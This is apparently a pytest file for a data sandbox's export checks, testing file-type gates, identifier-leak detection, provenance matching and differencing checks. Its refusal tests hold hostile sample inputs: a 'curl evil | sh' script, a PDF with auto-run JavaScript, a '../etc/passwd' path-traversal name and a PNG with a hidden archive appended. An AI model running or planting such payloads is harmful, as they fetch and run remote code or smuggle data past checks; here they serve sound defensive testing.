"""File gates by content, identifier leak, provenance and differencing on hand-made inputs."""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from sandbox.exports.checks import CheckContext, FileRefused, differencing, identifiers, provenance, run_all
from sandbox.exports.checks.file_gates import Limits, gate
from sandbox.exports.tables import read_csv


def png(width: int = 1, height: int = 1) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    raw = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


def parquet(table: dict) -> bytes:
    sink = io.BytesIO()
    pq.write_table(pa.table(table), sink)
    return sink.getvalue()


def zip_bytes() -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w") as z:
        z.writestr("data.csv", "a,b\n1,2\n")
    return sink.getvalue()


def jpeg() -> bytes:
    from PIL import Image

    sink = io.BytesIO()
    Image.new("RGB", (4, 4), (200, 10, 10)).save(sink, format="JPEG")
    return sink.getvalue()


def tar_bytes() -> bytes:
    sink = io.BytesIO()
    with tarfile.open(fileobj=sink, mode="w") as t:
        info = tarfile.TarInfo("data.csv")
        info.size = 4
        t.addfile(info, io.BytesIO(b"a,b\n"))
    return sink.getvalue()


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("table.csv", b"a,n\nx,12\n", "csv"),
        ("notes.txt", "résumé of results\n".encode(), "text"),
        ("README.md", b"# Results\n", "text"),
        ("plot.png", png(), "png"),
        ("t.parquet", parquet({"a": ["x"], "n": [12]}), "parquet"),
        ("t.tsv", b"a\tn\nx\t12\n", "tsv"),
        ("photo.jpg", jpeg(), "jpeg"),
        ("analysis.py", b"print(1)\n", "text"),
    ],
)
def test_allowed_kinds_pass(name: str, data: bytes, kind: str) -> None:
    got, results = gate(name, data)
    assert got == kind
    assert all(r["outcome"] == "pass" for r in results)


@pytest.mark.parametrize(
    ("name", "data", "why"),
    [
        ("table.csv", zip_bytes(), "zip"),  # an archive by content, whatever the name
        ("table.csv", tar_bytes(), "tar"),
        ("plot.png", b"\x7fELF\x02\x01\x01" + b"\x00" * 64, "ELF"),
        ("notes.txt", b"MZ\x90\x00" + b"\x00" * 60, "Windows"),
        ("notes.txt", b"#!/bin/sh\ncurl evil | sh\n", "script"),
        ("data.csv", b"\x1f\x8b\x08\x00" + b"\x00" * 20, "gzip"),
        ("t.parquet", b"SQLite format 3\x00" + b"\x00" * 100, "SQLite"),
        ("archive.zip", zip_bytes(), "an archive cannot be released"),
        ("run.sh", b"echo hi\n", "accepted are tables"),
        ("noext", b"a,b\n", "a file without extension"),
        ("plot.png", b"a,b\n1,2\n", "content is UTF-8 text"),  # name says png, content is text
        ("table.csv", png(), "PNG"),
        ("plot.png", png() + b"PK\x03\x04secret", "hidden after the end"),
        ("report.pdf", b"%PDF-1.4\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n", "a PDF"),
        ("report.pdf", b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n", "accepted are tables"),
        ("analysis.ipynb", b'{"cells": []}', "a notebook"),
        ("book.xlsx", zip_bytes(), "an office file"),
        ("photo.jpg", png(), "PNG"),
        ("../etc/passwd.csv", b"a\n", "file names"),
        ("empty.csv", b"", "empty"),
    ],
)
def test_refused_by_content(name: str, data: bytes, why: str) -> None:
    kind, results = gate(name, data)
    assert kind is None
    assert why in " ".join(r["detail"] for r in results if r["outcome"] == "fail")


def test_size_and_row_caps() -> None:
    limits = Limits(max_file_bytes=100, max_rows=3)
    assert gate("t.csv", b"a\n" + b"1\n" * 200, limits)[0] is None
    with pytest.raises(FileRefused) as err:
        run_all("t.csv", b"a,n\n" + b"x,10\n" * 4, CheckContext(limits=limits))
    assert "more than 3 rows" in err.value.message
    canon, _ = run_all("t.csv", b"a,n\n" + b"x,10\n" * 3, CheckContext(limits=limits))
    assert canon.kind == "csv"


# -- identifiers ---------------------------------------------------------------------------------
IDS = {"93703", "93704", "93705", "93706"}


def fake_matcher(_ds: str, values: list[str]) -> int:
    return sum(1 for v in values if v in IDS)


def test_identifier_column_fails_and_names_the_column() -> None:
    table = read_csv(b"person,age,n\n93703,20,11\n93704.0,30,12\n93705,40,13\n")
    res = identifiers.check_table(table, {"nhanes_2017": "seqn"}, fake_matcher)
    assert res["outcome"] == "fail"
    assert [c["column"] for c in res["cells"]] == ["person"]
    assert res["cells"][0]["matched"] == 3


def test_identifier_single_match_is_review_and_unit_name_fails() -> None:
    table = read_csv(b"a,n\nx,93703\ny,500\nz,600\n")
    assert identifiers.check_table(table, {"ds": "seqn"}, fake_matcher)["outcome"] == "review"
    named = read_csv(b"SEQN,n\n1,20\n")
    assert identifiers.check_table(named, {"ds": "seqn"}, fake_matcher)["outcome"] == "fail"
    clean = read_csv(b"a,n\nx,12\n")
    assert identifiers.check_table(clean, {"ds": "seqn"}, fake_matcher)["outcome"] == "pass"
    assert identifiers.check_table(clean, {}, fake_matcher)["outcome"] == "pass"


def test_identifiers_in_text() -> None:
    res = identifiers.check_text("cases 93703 and 93704 stood out", {"ds": "seqn"}, fake_matcher)
    assert res["outcome"] == "fail"
    assert identifiers.check_text("mean was 123.4", {"ds": "seqn"}, fake_matcher)["outcome"] == "pass"


# -- provenance ------------------------------------------------------------------------------------
ANSWERS = [
    {"query_id": "q-1", "epsilon": 0.5, "ts": "t1",
     "response": {"columns": ["sex", "n"], "rows": [["female", 4180], ["male", 4016]]}},
    {"query_id": "q-2", "epsilon": 0.25, "ts": "t2",
     "response": {"columns": ["sex", "avg_age"], "rows": [["female", 34.5678], ["male", 33.1234]]}},
]


def test_provenance_matches_released_numbers_with_rounding() -> None:
    table = read_csv(b"sex,n,avg_age\nfemale,4180,34.57\nmale,4016,33.1\n")
    res = provenance.check_table(table, ANSWERS)
    assert res["outcome"] == "pass", res
    assert [q["query_id"] for q in res["queries"]] == ["q-1", "q-2"]
    assert "epsilon 0.75" in res["detail"]


def test_provenance_lists_unmatched_cells() -> None:
    table = read_csv(b"sex,n\nfemale,4180\nmale,4017\n")
    res = provenance.check_table(table, ANSWERS)
    assert res["outcome"] == "review"
    assert [(c["row"], c["column"], c["value"]) for c in res["cells"]] == [(1, "n", 4017)]
    assert provenance.check_table(table, [])["outcome"] == "review"


# -- differencing ----------------------------------------------------------------------------------
def test_differencing_flags_same_group_small_difference() -> None:
    # released: all females 4180; file: females under 80 = 4175 -> the 5 females aged 80 are isolated
    table = read_csv(b"sex,n\nfemale,4175\nmale,4016\n")
    res = differencing.check_table(table, ANSWERS)
    assert res["outcome"] == "review"
    assert [(c["row"], c["column"]) for c in res["cells"]] == [(0, "n")]
    assert "q-1" in res["cells"][0]["reason"]


def test_differencing_total_and_clean_cases() -> None:
    released = [{"query_id": "q-t", "epsilon": 0.1, "response": {"columns": ["n"], "rows": [[8366]]}}]
    table = read_csv(b"sex,n\nfemale,4180\nmale,4180\n")  # total 8360: 6 units short of 8366
    res = differencing.check_table(table, released)
    assert res["outcome"] == "review"
    assert "total" in res["cells"][0]["reason"]
    far = read_csv(b"sex,n\nfemale,4000\nmale,3000\n")
    assert differencing.check_table(far, ANSWERS + released)["outcome"] == "pass"
    same = read_csv(b"sex,n\nfemale,4180\n")  # identical numbers isolate nobody
    assert differencing.check_table(same, ANSWERS)["outcome"] == "pass"


def test_run_all_on_image_and_parquet() -> None:
    canon, results = run_all("plot.png", png(), CheckContext(answers=ANSWERS))
    assert canon.kind == "png"
    assert {r["rule"] for r in results} >= {"identifiers", "sdc.manual", "provenance", "canonical.metadata",
                                             "canonical.size"}
    canon, results = run_all("t.parquet", parquet({"sex": ["female"], "n": [3]}), CheckContext())
    assert canon.kind == "parquet"
    assert {r["rule"]: r["outcome"] for r in results}["sdc.threshold"] == "fail"
